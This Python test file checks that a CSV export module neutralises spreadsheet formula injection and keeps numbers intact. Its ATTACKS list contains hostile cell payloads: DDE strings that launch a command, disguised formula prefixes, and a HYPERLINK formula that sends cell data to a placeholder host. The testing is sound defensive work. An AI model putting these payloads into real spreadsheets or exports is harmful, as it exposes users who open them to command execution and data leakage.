"""No cell of a downloaded table is run by a spreadsheet; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pandas as pd
import pytest

from fkd.formats import report as reports
from fkd.formats.report import Problem, Report, write_problems
from fkd.formats.safe_csv import file_table, frame_table, inert, table

ROOT = Path(__file__).resolve().parents[1]

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-A1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    "\uff1d1",
    "\uff0b1",
    "\uff0dA1",
    "\uff20SUM(1)",
    "-",
    "--1",
    "-1.5.2",
    "+1 2",
    "-inf()",
    '=HYPERLINK("http://x.invalid/?"&A1)',
]

HARMLESS = [
    *("", "a", "a=b", "nose tip", "x-1", "'=1", "-1", "-1.5", "+3", "-.5", "-1.", "1e-3", "-1E+5"),
    *(" -1.5", "0", "12.5, 13.0"),
]


@pytest.mark.parametrize("cell", ATTACKS)
def test_what_a_spreadsheet_would_run_gets_an_apostrophe(cell):
    assert inert(cell) == f"'{cell}"
    assert inert(inert(cell)) == inert(cell)


@pytest.mark.parametrize("cell", [*HARMLESS, None, -1.5, 3, float("-inf"), True])
def test_the_rest_stays_as_it_is(cell):
    assert inert(cell) is cell


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def test_tables_of_every_kind():
    expected = [f"'{cell}" for cell in ATTACKS]
    assert rows_of(table(["=a", "b"], [(cell, -1.5) for cell in ATTACKS])) == [
        ["'=a", "b"],
        *([cell, "-1.5"] for cell in expected),
    ]
    frame = pd.DataFrame(
        {
            "=a": ATTACKS,
            "x": [-1.5] * len(ATTACKS),
            "text": pd.array(ATTACKS, dtype="string"),
            "kind": pd.Categorical(ATTACKS),
            "mixed": [-1.5, *ATTACKS[1:]],
            "n": pd.array([None, *[-2] * (len(ATTACKS) - 1)], "Int64"),
        },
        index=pd.Index(ATTACKS, name="=i"),
    )
    found = rows_of(frame_table(frame, index=True))
    assert found[0] == ["'=i", "'=a", "x", "text", "kind", "mixed", "n"]
    for number, (cell, row) in enumerate(zip(expected, found[1:], strict=True)):
        mixed, n = (cell, "-2") if number else ("-1.5", "")
        assert row == [cell, cell, "-1.5", cell, cell, mixed, n]
    assert frame.columns[0] == "=a"  # what is shown is not changed
    assert frame.iloc[0, 0] == "=1+1"


def test_a_frame_of_several_levels_and_of_equal_names():
    columns = pd.MultiIndex.from_tuples([("=a", "x"), ("=a", "-y")])
    frame = pd.DataFrame([["=1", 2]], columns=columns)
    assert rows_of(frame_table(frame)) == [["'=a", "'=a"], ["x", "'-y"], ["'=1", "2"]]
    frame = pd.DataFrame([["=1", "@2"]], columns=["a", "a"])
    assert rows_of(frame_table(frame)) == [["a", "a"], ["'=1", "'@2"]]


def test_problems_also_those_that_wait_in_a_file(tmp_path, monkeypatch):
    monkeypatch.setattr(reports, "MAX_KEPT", 3)
    report = Report("=t.csv")
    for row, cell in enumerate(ATTACKS):
        report.add(Problem("=t.csv", row, cell, f"{cell}: no"))
    write_problems(tmp_path / "out.csv", [report])
    found = rows_of((tmp_path / "out.csv").read_bytes())[1:]
    assert len(found) == len(ATTACKS)
    for row, cell in zip(found, ATTACKS, strict=True):
        assert row[0] == "'=t.csv"
        assert row[3:] == [f"'{cell}", f"'{cell}: no"]


def test_a_file_that_was_written_before(tmp_path):
    path = tmp_path / "rejected.csv"
    with path.open("w", newline="") as file:
        csv.writer(file).writerows([["file", "row"], ["=cmd()", -1.5], ['"', "\xe9"]])
    assert rows_of(file_table(path)) == [["file", "row"], ["'=cmd()", "-1.5"], ['"', "\xe9"]]
    path.write_bytes(b'\xff"=1,' + b"x" * 200_000)
    assert file_table(path)


def test_nothing_else_writes_tables_for_people():
    """Whoever writes one comes through ``safe_csv``; these write numbers, or what they read."""
    known = {
        "fkd/formats/safe_csv.py",
        "fkd/formats/report.py",
        "fkd/formats/_columnar.py",
        "fkd/formats/writing.py",
    }
    writes = re.compile(r"csv\.writer\(|DictWriter|\.to_csv\(|write_csv\(")
    for folder in ("fkd", "dashboard", "pages"):
        for path in (ROOT / folder).rglob("*.py"):
            name = str(path.relative_to(ROOT))
            assert name in known or not writes.search(path.read_text()), name
